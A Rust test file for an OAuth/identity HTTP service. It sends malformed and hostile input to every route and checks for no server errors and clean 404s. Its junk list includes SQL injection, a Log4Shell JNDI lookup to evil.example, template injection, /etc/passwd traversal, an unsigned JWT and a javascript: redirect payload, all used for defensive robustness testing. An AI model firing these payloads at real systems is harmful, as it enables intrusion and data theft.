//! Junk of every kind at every route: nothing panics, nothing is an error of ours (N100).

use svc_http::{Guard, Method};

use super::{UNKNOWN, places, send};
use crate::harness::Harness;

fn junk() -> Vec<String> {
    let fixed = [
        "",
        "&",
        "=",
        "&&==&&",
        "%",
        "%00",
        "%ff",
        "a=%f0%9f%92%a9",
        "null",
        "[]",
        "{}",
        "{\"\":{}}",
        "{\"name\":null}",
        "{\"name\":[]}",
        "{\"name\":-0}",
        "{\"name\":1e308}",
        "{\"scopes\":[[[[[]]]]]}",
        "\u{0}\u{1}\u{7f}",
        "'; DROP TABLE tenants; --",
        "${jndi:ldap://evil.example/x}",
        "{{7*7}}",
        "../../../../etc/passwd",
        "\u{202e}\u{feff}\u{1f469}\u{200d}\u{1f680}",
        "18446744073709551616",
        "-9223372036854775809",
        "grant_type=authorization_code&code=%F0%28%8C%28",
        "grant_type=refresh_token&refresh_token=",
        "flow=AAAA&username=a&password=b",
        "token=a.b.c&token_type_hint=x",
        "id_token_hint=eyJhbGciOiJub25lIn0.e30.",
        "max_age=-1&prompt=none&prompt=login",
        "response_type=code&client_id=x&redirect_uri=javascript:alert(1)",
    ];
    let long = ["x".repeat(9000), "a=".repeat(4000), "[".repeat(9000), format!("a={}", "%41".repeat(3000))];
    fixed.map(str::to_owned).into_iter().chain(long).collect()
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| {
            if byte.is_ascii_graphic() && byte != b'#' {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02x}")
            }
        })
        .collect()
}

#[tokio::test]
async fn junk_in_query_body_and_headers_is_refused_like_any_mistake() {
    let h = Harness::new().await;
    let site = h.tenant("main").await;
    let bearer = format!("Bearer {}", site.mint(|_| ()));
    for place in places(&h) {
        for junk in junk() {
            let header: String = junk.chars().filter(|c| !c.is_control()).collect();
            let query: String =
                encoded(&junk).replace(['"', '<', '>', '\\', '^', '`', '{', '|', '}', '[', ']'], "%22");
            let path = format!("{}?{query}", place.path);
            let form =
                [("content-type", "application/x-www-form-urlencoded"), ("authorization", bearer.as_str())];
            let json = [("content-type", "application/json"), ("authorization", bearer.as_str())];
            let odd = [
                ("authorization", header.as_str()),
                ("cookie", &header),
                ("origin", &header),
                ("referer", &header),
                ("accept-language", &header),
                ("if-match", &header),
                ("idempotency-key", &header),
                ("dpop", &header),
                ("x-request-id", &header),
                ("x-forwarded-for", &header),
                ("user-agent", &header),
            ];
            let mut answers = vec![
                send(&site, &place.method, &path, &form, "").await,
                send(&site, &place.method, &place.path, &odd, junk.clone()).await,
            ];
            // What only reads has no body to understand: one that comes with odd headers is enough.
            if !place.method.is_safe() {
                answers.push(send(&site, &place.method, &place.path, &form, junk.clone()).await);
                answers.push(send(&site, &place.method, &place.path, &json, junk.clone()).await);
            }
            for answer in answers {
                assert!(answer.status < 500, "{place:?} {junk:.60?}: {answer:?}");
                let request_id = answer.header("x-request-id");
                let is_word = |byte: u8| byte.is_ascii_alphanumeric() || b"._-".contains(&byte);
                assert!(
                    !request_id.is_empty() && request_id.len() <= 128 && request_id.bytes().all(is_word),
                    "{answer:?}"
                );
            }
        }
    }
    let _ = h.get("id.test", "/health/ready").await.expect(200);
}

#[tokio::test]
async fn junk_in_the_place_of_an_id_is_an_unknown_id() {
    let h = Harness::new().await;
    let site = h.tenant("main").await;
    let token = site.mint(|_| ());
    for place in places(&h) {
        let is_tenants = matches!(place.guard, Guard::Tenant { .. });
        if !is_tenants || !place.path.contains(UNKNOWN) || place.method != Method::GET {
            continue;
        }
        let expected =
            site.call(Method::GET, &place.path, Some(&token), None).await.expect(404).without_request_id();
        let overflow = "9".repeat(27);
        for id in [
            "x",
            "app_",
            "app_0",
            "APP_00000000000000000000000000",
            "usr_00000000000000000000000000",
            "app_zzzzzzzzzzzzzzzzzzzzzzzzzz",
            "%27%20OR%201=1--",
            "%ff",
            "null",
            "0",
            "-1",
            &overflow,
        ] {
            let answer = site
                .call(Method::GET, &place.path.replace(UNKNOWN, id), Some(&token), None)
                .await
                .expect(404);
            assert_eq!(answer.without_request_id(), expected, "{id}");
        }
    }
}
